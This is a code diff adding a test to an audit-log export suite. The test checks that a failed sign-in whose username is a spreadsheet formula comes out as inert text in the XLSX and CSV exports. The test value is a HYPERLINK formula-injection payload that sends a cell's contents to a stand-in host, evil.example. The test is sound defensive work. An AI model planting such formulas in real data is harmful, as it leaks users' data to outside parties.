@@ -98,3 +98,24 @@ def test_export_contains_the_filtered_rows_and_is_itself_audited(client, make, l
     export = db.session.scalars(sa.select(AuditEvent).where(
         AuditEvent.action == "audit.export")).one()
     assert export.actor_id == auditor.id and export.details["rows"] == 3
+
+
+def test_a_failed_sign_in_with_a_formula_for_a_username_exports_as_inert_text(client, db):
+    from openpyxl import load_workbook
+
+    from app.audit import export as audit_export
+    from app.audit.queries import audit_query
+    from tests.helpers import sign_in
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    sign_in(client, hostile, "wrong password")
+    db.session.commit()
+    assert db.session.scalar(sa.select(AuditEvent.actor_name).where(
+        AuditEvent.success.is_(False))) == hostile
+    xlsx, text = io.BytesIO(), io.BytesIO()
+    audit_export.write(audit_query(success="0"), "xlsx", xlsx)
+    audit_export.write(audit_query(success="0"), "csv", text)
+    cell = load_workbook(xlsx).active["B2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (hostile, "s", True)
+    rows = list(csv.reader(io.StringIO(text.getvalue().decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + hostile
